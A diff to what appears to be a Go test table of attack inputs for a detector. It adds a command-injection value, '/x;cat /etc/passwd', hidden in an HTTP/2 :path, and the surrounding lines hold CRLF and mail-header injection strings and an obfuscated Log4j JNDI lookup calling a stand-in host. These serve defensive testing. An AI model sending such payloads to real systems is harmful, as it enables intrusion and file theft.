@@ -50,6 +50,10 @@ func init() {
 		attackEntry{lF, "email", "From: a@b.example\r\nTo: c@d.example\r\nBcc: victims@x.example", "mail-header-injection", encURL},
 		attackEntry{lF, "address", "victim\r\nBcc: victims@x.example", "mail-header-injection", encURL},
 		attackEntry{lQ, "query", "{ a(\r\nSet-Cookie: sid=evil\r\n) { b } }", "crlf-injection", encURL},
+		// A repeated HTTP/2 :path's other value, which a back end that
+		// takes the last one routes by (decoders/http2 keeps it as a
+		// header; ExtractParams reads its query: TestRepeatedPath).
+		attackEntry{lH, ":path", "/x;cat /etc/passwd", "cmdi", 0},
 		// Log4j: an empty date pattern spells nothing; the lookups that
 		// recurse until the stack overflows (CVE-2021-45105).
 		attackEntry{lH, "user-agent", "${jn${date:}di${date:':'}ldap${date:':'}//oast.example/a}", "jndi-lookup", 0},
